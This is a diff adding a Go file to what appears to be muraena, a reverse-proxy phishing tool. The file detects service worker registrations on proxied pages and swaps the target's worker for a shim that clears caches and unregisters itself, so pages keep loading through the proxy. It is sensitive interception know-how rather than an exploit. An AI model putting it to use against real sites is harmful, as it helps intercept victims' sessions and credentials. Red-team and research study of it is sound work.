@@ -0,0 +1,84 @@
+package proxy
+
+import (
+	"bytes"
+	"io/ioutil"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+
+	"github.com/evilsocket/islazy/tui"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// serviceWorkerRegistration matches the registrations of a service worker, capturing the literal script URL
+var serviceWorkerRegistration = regexp.MustCompile("serviceWorker\\s*\\.\\s*register\\s*\\(\\s*(?:[\"'`]([^\"'`]*)[\"'`])?")
+
+// serviceWorkerShim replaces the service worker scripts of the target in the unregister mode:
+// once activated it drops the caches of the previous workers and unregisters itself.
+// Without a fetch handler, the requests of the controlled pages go to the network, through the proxy.
+const serviceWorkerShim = `self.addEventListener('install', function () {
+  self.skipWaiting();
+});
+self.addEventListener('activate', function (event) {
+  event.waitUntil(caches.keys().then(function (keys) {
+    return Promise.all(keys.map(function (key) { return caches.delete(key); }));
+  }).then(function () {
+    return self.registration.unregister();
+  }));
+});
+`
+
+// serviceWorkers keeps the service worker registrations already reported
+var serviceWorkers sync.Map
+
+// isServiceWorkerScript checks if the request fetches a service worker script, as flagged by the browsers
+func isServiceWorkerScript(request *http.Request) bool {
+	return request != nil && request.Header.Get("Service-Worker") == "script"
+}
+
+// unregisterServiceWorkers tells if the service worker scripts of the target are replaced by the unregister shim
+func unregisterServiceWorkers(sess *session.Session) bool {
+	return strings.EqualFold(sess.Config.Transform.ServiceWorker.Mode, "unregister")
+}
+
+// serveServiceWorkerShim replaces the service worker script of the response with the unregister shim
+func serveServiceWorkerShim(response *http.Response) {
+	if response.Body != nil {
+		response.Body.Close()
+	}
+
+	for _, header := range []string{"Content-Encoding", "ETag", "Last-Modified", "Expires"} {
+		response.Header.Del(header)
+	}
+	response.StatusCode = http.StatusOK
+	response.Status = http.StatusText(http.StatusOK)
+	response.Header.Set("Content-Type", "text/javascript; charset=utf-8")
+	response.Header.Set("Cache-Control", "no-store")
+
+	response.Body = ioutil.NopCloser(bytes.NewReader([]byte(serviceWorkerShim)))
+	response.ContentLength = int64(len(serviceWorkerShim))
+	response.Header.Set("Content-Length", strconv.Itoa(len(serviceWorkerShim)))
+}
+
+// reportServiceWorkers logs, once, the service worker registrations found in the rewritten body
+func reportServiceWorkers(path, body string) {
+	if !strings.Contains(body, "serviceWorker") {
+		return
+	}
+
+	for _, match := range serviceWorkerRegistration.FindAllStringSubmatch(body, -1) {
+		script, key := match[1], match[1]
+		if script == "" {
+			script, key = "(dynamic)", "@"+path
+		}
+
+		if _, seen := serviceWorkers.LoadOrStore(key, true); !seen {
+			log.Info("Service worker %s registered by %s", tui.Bold(tui.Yellow(script)), path)
+		}
+	}
+}